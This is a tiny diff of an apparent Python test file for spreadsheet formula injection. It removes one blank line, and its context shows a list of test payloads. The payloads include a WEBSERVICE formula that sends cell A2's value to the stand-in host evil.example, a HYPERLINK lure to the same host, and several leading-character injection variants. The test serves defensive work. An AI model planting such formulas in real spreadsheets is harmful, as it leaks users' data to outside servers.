@@ -10,7 +10,6 @@ import openpyxl
 import pandas as pd
 import pytest
 
-
 FORMULAS = ['=HYPERLINK("http://evil.example/","Open the full data")', '=WEBSERVICE("http://evil.example/?"&A2)',
             "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
 
